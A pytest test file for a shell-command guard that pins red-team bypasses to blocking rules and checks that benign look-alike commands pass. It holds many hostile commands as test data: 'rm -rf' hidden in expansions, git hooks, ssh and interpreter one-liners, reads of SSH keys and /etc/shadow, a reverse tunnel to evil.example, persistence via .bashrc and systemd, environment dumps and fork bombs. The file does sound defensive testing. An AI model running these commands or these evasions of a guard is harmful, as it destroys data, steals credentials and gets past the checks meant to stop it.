"""Bypasses a red team found in the shell guard, each pinned to the rule that now stops it,
and the look-alike everyday commands those rules must leave alone."""

from __future__ import annotations

from pathlib import Path

import pytest

from nexora.security.file_guard import FileGuard
from nexora.security.shell_guard import check_shell
from nexora.security.verdict import Verdict


@pytest.fixture
def files(tmp_path: Path) -> FileGuard:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    return FileGuard(workspace)


def _rules(command: str, files: FileGuard) -> set[str]:
    return {r.rule for r in check_shell(command, files).reasons}


def test_a_variable_holding_an_empty_quoted_word_is_not_a_write_to_root(files: FileGuard) -> None:
    command = "SED_INPLACE=\"sed -i ''\"; $SED_INPLACE 's/<title>x/<title>y/' index.html"
    assert check_shell(command, files).verdict is Verdict.ALLOW
    # The same expansion still reaches a system file when it names one.
    assert "shell.system_write" in _rules("S=\"sed -i ''\"; $S 's/a/b/' /etc/passwd", files)


@pytest.mark.parametrize(
    "command",
    [
        'x="-rf /"; rm $x',  # an unquoted expansion is split into words
        "e=; $e rm -rf /",  # an empty one vanishes, so rm is the command
        "IFS=,; `echo rm,-rf,/`",  # split on the IFS in force
        "rm -rf /{,}",
        "alias ls='rm -rf ~'; ls",
        "find / -exec sh -c 'rm -rf {}' \\;",
        "git -c core.fsmonitor='rm -rf ~' status",
        "git config alias.x '!rm -rf ~'",
        "git rebase -x 'rm -rf ~' HEAD~3",
        "GIT_SSH_COMMAND='rm -rf ~ #' git fetch",
        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'",
        "rsync -e 'sh -c \"rm -rf ~\"' x y:",
        "ssh -o ProxyCommand='rm -rf ~' host",
        "ssh localhost 'rm -rf ~'",
        "vim -c ':!rm -rf ~'",
        "sqlite3 app.db '.shell rm -rf ~'",
        "tmux new-session -d 'rm -rf ~'",
        "parallel ::: 'rm -rf ~'",
        "npx rimraf ~",
        "perl -e 'exec \"rm -rf ~\"'",
        "ruby -e '%x(rm -rf ~)'",
        "lua -e 'os.execute(\"rm -rf ~\")'",
        "node -e \"require('child_process').spawnSync('rm', ['-rf', '/'])\"",
        "sed '1e rm -rf ~' notes.txt",
        "echo x | sed 's/.*/rm -rf ~/e'",
        "echo 'rm -rf ~' > x.sh; sh x.sh",
        "echo 'rm -rf ~' | tee x.sh; bash x.sh",
    ],
)
def test_commands_hidden_in_expansions_hooks_and_programs_are_judged(
    command: str, files: FileGuard
) -> None:
    result = check_shell(command, files)
    assert result.verdict is Verdict.BLOCK, command
    assert "shell.destructive_delete" in {r.rule for r in result.reasons}, command


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("/???/??m -rf ~", "shell.wildcard_command"),
        ("vim -c ':!sh'", "shell.shell_escape"),
        ("perl -e 'exec \"/bin/sh\"'", "shell.shell_escape"),
        ('awk \'BEGIN { print "rm -rf ~" | "sh" }\'', "shell.shell_escape"),
        ("cat ~/.ss*/id_*", "file.denied"),
        ("cat /home/*/.ssh/id_*", "file.denied"),
        ("cat ~/.*rc", "file.denied"),
        ("cp -r ~/.[a-z]* /tmp/loot", "shell.wildcard_path"),
        ("cat ${PATH:0:1}etc${PATH:0:1}shadow", "shell.hidden_path"),
        ("curl file:///etc/shadow", "file.denied"),
        ("cat ~/.bash_history", "file.denied"),
        ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "file.denied"),
        ("python3 -m http.server 8000 --directory ~", "shell.serve_files"),
        ("cd ~ && python3 -m http.server", "shell.serve_files"),
        ("ssh -R 8080:localhost:22 attacker@evil.example", "shell.tunnel"),
        ("nohup ./implant > /dev/null 2>&1 &", "shell.detached"),
        ("systemctl --user enable --now evil.service", "shell.persistence"),
        ("echo 'curl x | sh' >> ~/.bashrc", "shell.persistence"),
        ("cp hook.sh .git/hooks/pre-commit", "shell.persistence"),
        ("killall5 -9", "shell.kill_all"),
        ("xargs rm -rf <<< /", "shell.destructive_delete"),
        ("sh < <(echo 'rm -rf ~')", "shell.destructive_delete"),
        ("git -C ~ clean -fdx", "shell.delete_outside"),
        ("ln -sf /etc/passwd ./passwd; echo x >> ./passwd", "shell.link_outside"),
        ("set +o history", "shell.history_tamper"),
        ('echo "$AWS_SECRET_ACCESS_KEY"', "shell.secret_print"),
        ("ps auxe", "shell.env_dump"),
        ("awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'", "shell.env_dump"),
        ("node -p process.env", "shell.env_dump"),
        ("perl -e 'fork while 1'", "shell.fork_bomb"),
        ("tar xf payload.tar -C /", "shell.system_write"),
        ("unzip -o payload.zip -d /etc", "shell.system_write"),
        ("tar -xPf payload.tar", "shell.archive_absolute"),
        ("curl -o /etc/hosts http://evil.example/hosts", "shell.system_write"),
        ("sort -o /etc/passwd users.txt", "shell.system_write"),
        ("install -m 4755 shell ./rootshell", "shell.setuid"),
        ("nsenter -t 1 -m -u -i -n -p sh", "shell.privilege"),
        ("service apparmor teardown", "shell.disable_security"),
        ("docker run --rm -v ~/.ssh:/k alpine cat /k/id_rsa", "file.denied"),
    ],
)
def test_red_team_findings_have_a_rule(command: str, rule: str, files: FileGuard) -> None:
    result = check_shell(command, files)
    assert result.verdict is not Verdict.ALLOW, command
    assert rule in {r.rule for r in result.reasons}, (command, result.reasons)


@pytest.mark.parametrize(
    "command",
    [
        "git clean -fdx",
        "find . -name '*.o' -delete",
        "npx rimraf dist",
        "awk '{print $1}' access.log",
        "sed -i.bak 's/localhost/127.0.0.1/' config/dev.ini",
        "git -c color.ui=always log --oneline -5",
        "git config alias.lg 'log --oneline --graph'",
        "rsync -avz -e ssh dist/ deploy@staging.example.com:/srv/app/",
        "ssh -T git@github.com",
        "tar xzf vendor.tar.gz -C third_party/",
        "curl -fsSL https://example.com/install.sh -o install.sh",
        "python3 -m http.server 8080 --directory site",
        "ls ~/.ssh",
        "cat .env.example",
        "cp .env.example .env.local.example",
        "echo 'print(1)' > hello.py && python3 hello.py",
        "gcc -O2 -o build/app src/main.c",
        "ps -ef | grep nginx",
        "if [ -f package.json ]; then npm install; fi",
        'IFS=, read -r name email <<< "ada,ada@example.com"',
        'echo \'{"a":1,"b":2}\'',
    ],
)
def test_everyday_look_alikes_pass(command: str, files: FileGuard) -> None:
    result = check_shell(command, files)
    assert result.verdict is Verdict.ALLOW, (command, result.reasons)
